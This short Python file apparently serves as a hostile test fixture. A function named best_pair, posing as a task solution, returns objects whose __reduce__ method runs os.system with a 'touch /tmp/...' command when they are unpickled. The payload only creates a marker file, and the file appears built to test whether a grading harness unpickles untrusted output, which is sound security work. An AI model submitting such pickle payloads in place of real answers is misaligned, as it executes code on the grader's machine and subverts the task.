# returns something that runs code when it is unpickled
class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/aigc-hostile-was-here",)


def best_pair(words):
    return [Bomb(), Bomb()]
